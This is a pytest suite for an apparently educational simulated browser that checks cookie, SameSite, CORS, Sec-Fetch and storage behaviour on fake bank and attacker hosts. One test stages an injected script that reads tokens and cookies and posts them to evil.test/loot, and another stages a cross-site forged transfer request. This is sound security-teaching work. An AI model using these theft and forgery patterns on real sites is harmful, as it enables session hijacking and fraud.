"""The browser: cookies at each hop, headers no script can forge, storage, scripts, the log."""

from typing import Any

import pytest
from flask import Flask, jsonify, redirect, request
from werkzeug.wrappers import Response

from authlab.clock import Clock
from authlab.web import BadUrl, Browser, Decision, Network, Page, WebError, Window

BANK, SHOP, EVIL = "https://bank.test", "https://shop.bank.test", "https://evil.test"


class Lab:
    """Three hosts that note what reaches them, and one browser."""

    def __init__(self) -> None:
        self.seen: list[tuple[str, str, dict[str, str], str]] = []
        self.clock = Clock(1_000_000)
        self.network = network = Network()
        for origin in (BANK, SHOP, EVIL, "http://bank.test", "http://evil.test"):
            network.host(origin, self.app(origin))
        self.browser = Browser(network, self.clock, address="198.51.100.7")

    def app(self, origin: str) -> Flask:
        app = Flask(__name__)

        @app.before_request
        def note() -> None:
            headers = {**request.headers, "address": request.remote_addr or ""}
            self.seen.append((request.method, request.url, headers, request.get_data(as_text=True)))

        @app.route("/go/<int:code>", methods=["GET", "POST"])
        def go(code: int) -> Response:
            answer = redirect(request.args["to"], code)
            answer.headers.add("Set-Cookie", f"hop={code}; Path=/")
            return answer

        @app.get("/loop")
        def loop() -> Response:
            return redirect("/loop")

        @app.route("/set", methods=["GET", "POST"])
        def set_cookies() -> Response:
            answer = jsonify(origin=origin)
            for header in request.args.getlist("c"):
                answer.headers.add("Set-Cookie", header)
            return answer

        @app.route("/", defaults={"path": ""}, methods=["GET", "POST", "PUT"])
        @app.route("/<path:path>", methods=["GET", "POST", "PUT"])
        def page(path: str) -> Response:
            return jsonify(origin=origin, path=path)

        return app

    def set(self, *headers: str, origin: str = BANK) -> Page:
        query = "&".join(f"c={header.replace(' ', '%20')}" for header in headers)
        page = self.browser.goto(f"{origin}/set?{query}")
        self.seen.clear()
        return page

    def cookies(self) -> list[str | None]:
        """The Cookie header of each request since the last `set`."""
        return [headers.get("Cookie") for _, _, headers, _ in self.seen]

    def last(self) -> dict[str, str]:
        return self.seen[-1][2]


@pytest.fixture
def lab() -> Lab:
    return Lab()


def test_goto(lab: Lab) -> None:
    page = lab.browser.goto("https://BANK.test/a?b=1")
    assert (page.origin, page.status, page.json()) == (BANK, 200, {"origin": BANK, "path": "a"})
    assert page.headers["content-type"] == "application/json"
    assert lab.last()["address"] == "198.51.100.7"
    assert lab.last()["User-Agent"].startswith("Mozilla/5.0")
    assert lab.last()["Sec-Fetch-Site"] == "none"
    assert lab.last()["Sec-Fetch-Mode"] == "navigate"
    assert "Origin" not in lab.last()
    assert "Cookie" not in lab.last()


def test_each_of_several_set_cookie_headers_counts(lab: Lab) -> None:
    lab.set("a=1; Expires=Fri, 15 Jan 2027 08:00:00 GMT", "b=2; HttpOnly", "a=3; Path=/x")
    assert {str(cookie) for cookie in lab.browser.jar} == {"a=1", "b=2", "a=3"}


def test_requests_own_cookie_jar_does_not_take_part(lab: Lab) -> None:
    lab.set("keep=1", "bad=1; SameSite=None", "__Host-bad=1")
    lab.browser.goto(BANK)
    assert lab.cookies() == ["keep=1"]


def test_a_redirect_sets_and_gets_cookies_at_each_hop(lab: Lab) -> None:
    lab.set("evil=1", origin=EVIL)
    page = lab.browser.goto(f"{BANK}/go/302?to={EVIL}/go/302?to=/end")
    assert (page.url, page.origin) == (f"{EVIL}/end", EVIL)
    assert lab.cookies() == [None, "evil=1", "evil=1; hop=302"]
    assert [c.domain for c in lab.browser.jar if c.name == "hop"] == ["bank.test", "evil.test"]


@pytest.mark.parametrize(
    ("code", "method", "body"),
    [(301, "GET", ""), (302, "GET", ""), (303, "GET", ""), (307, "POST", "a=1+%C3%BC"),
     (308, "POST", "a=1+%C3%BC")],
)  # fmt: skip
def test_a_form_and_its_redirect(lab: Lab, code: int, method: str, body: str) -> None:
    page = lab.browser.goto(f"{BANK}/form")
    lab.seen.clear()
    end = lab.browser.submit(f"/go/{code}?to=/end", {"a": "1 ü"}, from_page=page)
    assert end.url == f"{BANK}/end"
    first, second = lab.seen
    assert (first[0], first[3]) == ("POST", "a=1+%C3%BC")
    assert first[2]["Content-Type"] == "application/x-www-form-urlencoded"
    assert (second[0], second[3]) == (method, body)
    assert first[2]["Origin"] == BANK
    assert second[2].get("Origin") == (BANK if method == "POST" else None)
    assert ("Content-Type" in second[2]) is (method == "POST")


def test_a_post_that_another_host_sends_on_has_no_origin_left(lab: Lab) -> None:
    page = lab.browser.goto(EVIL)
    lab.browser.submit(f"{SHOP}/go/307?to={BANK}/end", {}, from_page=page)
    assert [h.get("Origin") for _, _, h, _ in lab.seen[1:]] == [EVIL, "null"]


@pytest.mark.parametrize(
    ("start", "target", "site"),
    [(BANK, BANK, "same-origin"), (SHOP, BANK, "same-site"), (EVIL, BANK, "cross-site"),
     ("http://bank.test", BANK, "cross-site"), (BANK, f"{EVIL}/go/302?to={BANK}/", "cross-site"),
     (BANK, f"{SHOP}/go/302?to={BANK}/", "same-site")],
)  # fmt: skip
def test_sec_fetch_site_knows_the_whole_way(lab: Lab, start: str, target: str, site: str) -> None:
    page = lab.browser.goto(start)
    lab.browser.goto(target, from_page=page)
    assert lab.last()["Sec-Fetch-Site"] == site
    assert lab.browser.submit(target, {}, from_page=page).status == 200
    assert lab.last()["Sec-Fetch-Site"] == site


def test_over_http_nobody_says_sec_fetch(lab: Lab) -> None:
    page = lab.browser.goto("http://bank.test")
    assert not [name for name in lab.last() if name.startswith("Sec-")]
    lab.browser.submit("/", {}, from_page=page)
    assert lab.last()["Origin"] == "http://bank.test"


def test_a_page_that_does_not_load(lab: Lab) -> None:
    with pytest.raises(
        WebError, match=r"has no host https://nowhere.test; it has http://bank.test"
    ):
        lab.browser.goto("https://nowhere.test/")
    with pytest.raises(WebError, match="more than 20 redirects"):
        lab.browser.goto(f"{BANK}/loop")
    with pytest.raises(WebError, match="another scheme"):
        lab.browser.goto(f"{BANK}/go/302?to=ftp://bank.test")
    page = lab.browser.goto(BANK)

    def away(environ: Any, start_response: Any) -> list[bytes]:
        start_response("302 FOUND", [("Location", "http://[")])
        return []

    lab.network.host(SHOP, away)
    with pytest.raises(WebError, match="did not load"):
        lab.browser.goto(SHOP)
    with pytest.raises(BadUrl):
        lab.browser.goto("http://[", from_page=page)
    with pytest.raises(BadUrl):
        lab.browser.fetch(5, page=page)  # type: ignore[arg-type]
    for bad in ("bank.test", "", "ftp://bank.test"):
        with pytest.raises(BadUrl):
            lab.browser.goto(bad)


def test_fetch_from_the_own_origin(lab: Lab) -> None:
    page = lab.set("sid=1; HttpOnly; SameSite=Strict")
    reply = lab.browser.fetch(
        "/api", page=page, method="put", json={"a": [1]}, headers={"X-A": "b"}
    )
    assert (reply.status, reply.json()) == (200, {"origin": BANK, "path": "api"})
    assert reply.readable
    method, url, headers, body = lab.seen[-1]
    assert (method, url, body) == ("PUT", f"{BANK}/api", '{"a": [1]}')
    assert (headers["Cookie"], headers["X-A"], headers["Origin"]) == ("sid=1", "b", BANK)
    assert headers["Content-Type"] == "application/json"
    assert (headers["Sec-Fetch-Site"], headers["Sec-Fetch-Mode"]) == ("same-origin", "cors")
    assert lab.browser.fetch("/", page=page).readable
    assert "Origin" not in lab.last()


@pytest.mark.parametrize(
    ("data", "kind", "body"),
    [({"a": "b c"}, "application/x-www-form-urlencoded", "a=b+c"),
     ("ü", "text/plain;charset=UTF-8", "ü"), (b"x", None, "x")],
)  # fmt: skip
def test_bodies(lab: Lab, data: Any, kind: str | None, body: str) -> None:
    page = lab.browser.goto(BANK)
    lab.browser.fetch("/", page=page, method="POST", data=data)
    assert (lab.last().get("Content-Type"), lab.seen[-1][3]) == (kind, body)
    own = {"content-type": "application/x-own"}
    lab.browser.fetch("/", page=page, method="POST", data=data, headers=own)
    assert lab.last()["Content-Type"] == "application/x-own"


@pytest.mark.parametrize(
    "name",
    ["Cookie", "cookie", "Origin", "Host", "Sec-Fetch-Site", "sec-x", "Proxy-X", "Referer", "Date",
     "Content-Length", "Transfer-Encoding"],
)  # fmt: skip
def test_a_script_cannot_forge_what_the_browser_writes(lab: Lab, name: str) -> None:
    page = lab.set("sid=1")
    assert lab.browser.fetch("/", page=page, headers={name: "forged"}).status == 200
    assert "forged" not in lab.last().values()
    assert lab.last()["Cookie"] == "sid=1"


def test_script_reads_no_set_cookie(lab: Lab) -> None:
    page = lab.browser.goto(BANK)
    reply = lab.browser.fetch("/set?c=a=1%3B%20HttpOnly", page=page)
    assert "Set-Cookie" not in reply.headers
    assert [str(cookie) for cookie in lab.browser.jar] == ["a=1"]
    assert "Set-Cookie" in lab.browser.goto(f"{BANK}/set?c=a=1").headers


def test_fetch_from_elsewhere_reaches_the_bank_but_is_not_readable(lab: Lab) -> None:
    lab.set("none=1; SameSite=None; Secure", "lax=1; SameSite=Lax", "plain=1")
    evil = lab.browser.goto(EVIL)
    lab.seen.clear()
    form = {"to": "mallory"}
    options: dict[str, Any] = {"page": evil, "method": "POST", "data": form}
    reply = lab.browser.fetch(f"{BANK}/transfer", credentials="include", **options)
    assert (reply.status, reply.text, dict(reply.headers)) == (0, "", {})
    assert not reply.readable
    assert "reached https://bank.test" in reply.readable.why
    with pytest.raises(WebError, match="Not JSON"):
        reply.json()
    assert lab.seen[-1][3] == "to=mallory"
    assert (lab.last()["Cookie"], lab.last()["Origin"]) == ("none=1", EVIL)
    for credentials in ("omit", "same-origin"):
        lab.browser.fetch(f"{BANK}/transfer", credentials=credentials, **options)
        assert "Cookie" not in lab.last()


def test_cookies_from_a_cross_site_answer(lab: Lab) -> None:
    evil = lab.browser.goto(EVIL)
    query = "/set?c=a=1&c=b=1%3B%20SameSite=None%3B%20Secure"
    lab.browser.fetch(BANK + query, page=evil)  # credentials: same-origin
    assert list(lab.browser.jar) == []
    lab.browser.fetch(BANK + query, page=evil, credentials="include")
    assert [cookie.name for cookie in lab.browser.jar] == ["b"]
    lab.browser.submit(BANK + query, {}, from_page=evil)  # loads a page, so it may set all
    assert {cookie.name for cookie in lab.browser.jar} == {"a", "b"}


@pytest.mark.parametrize(
    ("options", "why"),
    [
        ({"method": "PUT"}, "preflight"),
        ({"method": "POST", "json": {}}, "preflight"),
        ({"headers": {"Authorization": "Bearer x"}}, "preflight"),
        ({"headers": {"X-Own": "x"}}, "preflight"),
        ({"method": "TRACE"}, "may not send 'TRACE'"),
        ({"method": "Ω"}, "may not send 'Ω'"),
        ({"method": "GET", "data": "x"}, "has no body"),
        ({"headers": {"Accept": "a\r\nb"}}, "header value"),
        ({"url": "http://bank.test/"}, "from https asks nothing over http"),
        ({"url": "https://nowhere.test/"}, "has no host"),
    ],
)
def test_what_is_not_sent(lab: Lab, options: dict[str, Any], why: str) -> None:
    page = lab.browser.goto(EVIL)
    lab.seen.clear()
    reply = lab.browser.fetch(**{"url": f"{BANK}/", "page": page, **options})
    assert lab.seen == []
    assert (reply.status, bool(reply.readable)) == (0, False)
    assert why in reply.readable.why
    assert lab.browser.log[-1].decision == reply.readable


def test_a_fetch_is_followed_only_while_it_is_readable(lab: Lab) -> None:
    page = lab.browser.goto(BANK)
    lab.seen.clear()
    reply = lab.browser.fetch(f"/go/307?to={BANK}/end", page=page, method="POST", data="x")
    assert (reply.status, lab.seen[-1][3]) == (200, "x")
    for start in (f"{BANK}/go/302?to={EVIL}/", f"{EVIL}/go/302?to={BANK}/"):
        lab.seen.clear()
        assert not lab.browser.fetch(start, page=page).readable
        assert lab.seen[-1][1].startswith(EVIL)  # what EVIL answered is not followed
    lab.seen.clear()
    moved = lab.browser.fetch(f"/go/302?to={EVIL}/", page=page, headers={"X-Own": "1"})
    assert "preflight" in moved.readable.why
    assert len(lab.seen) == 1


def test_a_redirect_to_another_origin_loses_authorization(lab: Lab) -> None:
    page = lab.browser.goto(BANK)
    bearer = {"authorization": "Bearer x"}
    lab.browser.fetch("/go/302?to=/a", page=page, headers=bearer)
    assert lab.last()["Authorization"] == "Bearer x"
    lab.browser.fetch(f"/go/302?to={SHOP}/", page=page, headers=bearer)
    assert lab.seen[-1][1] == f"{SHOP}/"
    assert "Authorization" not in lab.last()


def test_other_credentials_are_an_error(lab: Lab) -> None:
    page = lab.browser.goto(BANK)
    with pytest.raises(WebError, match="found 'all', expected 'omit'"):
        lab.browser.fetch("/", page=page, credentials="all")


def test_storage_is_kept_by_origin(lab: Lab) -> None:
    lab.browser.storage(BANK).local["token"] = "t"
    assert lab.browser.storage(f"{BANK}/any/page").local == {"token": "t"}
    assert lab.browser.storage(SHOP).local == {}
    assert lab.browser.storage("http://bank.test").session == {}
    with pytest.raises(BadUrl):
        lab.browser.storage("null")


def test_what_an_injected_script_sees_and_does(lab: Lab) -> None:
    page = lab.set("sid=1; HttpOnly", "theme=dark", "__Host-x=1; Secure; Path=/; HttpOnly")
    lab.browser.storage(BANK).local["token"] = "t0ken"

    def steal(window: Window) -> dict[str, Any]:
        window.session_storage["seen"] = "yes"
        window.document_cookie = "theme=light; Path=/"
        window.document_cookie = "sid=forged; Path=/"
        window.document_cookie = "own=1; HttpOnly"
        window.fetch(f"{EVIL}/loot", method="POST", data=window.document_cookie)
        return {
            "cookie": window.document_cookie,
            "token": window.local_storage["token"],
            "balance": window.fetch("/balance").json(),
            "location": window.location,
        }

    loot = lab.browser.run_script(page, steal)
    assert loot == {
        "cookie": "theme=light",
        "token": "t0ken",
        "balance": {"origin": BANK, "path": "balance"},
        "location": page.url,
    }
    assert lab.seen[0][1:4:2] == (f"{EVIL}/loot", "theme=light")
    assert lab.cookies() == [None, "sid=1; __Host-x=1; theme=light"]
    assert lab.browser.storage(BANK).session == {"seen": "yes"}
    refused = [entry.what for entry in lab.browser.log if entry.step == "cookie refused"]
    assert refused == ["sid", "own"]


def test_what_a_script_raises_is_its_own_affair(lab: Lab) -> None:
    page = lab.browser.goto(BANK)
    with pytest.raises(KeyError):
        lab.browser.run_script(page, lambda window: window.local_storage["none"])


def test_text_beyond_ascii_travels_in_cookies(lab: Lab) -> None:
    page = lab.set("a=%C3%83%C2%BC")  # two Latin-1 characters are two bytes: ü in UTF-8
    lab.browser.run_script(page, lambda window: setattr(window, "document_cookie", "b=ü€"))
    lab.browser.goto(BANK)
    sent = lab.last()["Cookie"].encode("latin-1").decode()
    assert sent == "a=ü; b=ü€"


def test_the_log_tells_the_story(lab: Lab) -> None:
    lab.browser.goto(f"{BANK}/set?c=sid=1%3B%20SameSite=Strict&c=x=1%3B%20SameSite=None")
    evil = lab.browser.goto(EVIL)
    lab.browser.goto(f"{BANK}/a", from_page=evil)
    lab.browser.fetch(f"{BANK}/", page=evil)
    told = [(entry.step, entry.what) for entry in lab.browser.log][1:]
    assert told == [
        ("cookie stored", "sid"),
        ("cookie refused", "x"),
        ("request", f"GET {EVIL}"),
        ("request", f"GET {BANK}/a"),
        ("cookie withheld", "sid"),
        ("request", f"GET {BANK}/"),
        ("cookie withheld", "sid"),
        ("reading refused", f"{BANK}/"),
    ]
    lines = [str(entry) for entry in lab.browser.log]
    assert lines[5] == (
        "cookie withheld: sid: sid is SameSite=Strict and another site asks (RFC 6265bis, 5.6.7)"
    )
    assert all(isinstance(e.decision, Decision) for e in lab.browser.log if e.step != "request")


def test_cookies_age_on_the_lessons_clock(lab: Lab) -> None:
    lab.set("sid=1")
    evil = lab.browser.goto(EVIL)
    lab.browser.submit(BANK, {}, from_page=evil)
    assert lab.last()["Cookie"] == "sid=1"
    lab.clock.advance(minutes=2)
    lab.browser.submit(BANK, {}, from_page=evil)
    assert "Cookie" not in lab.last()
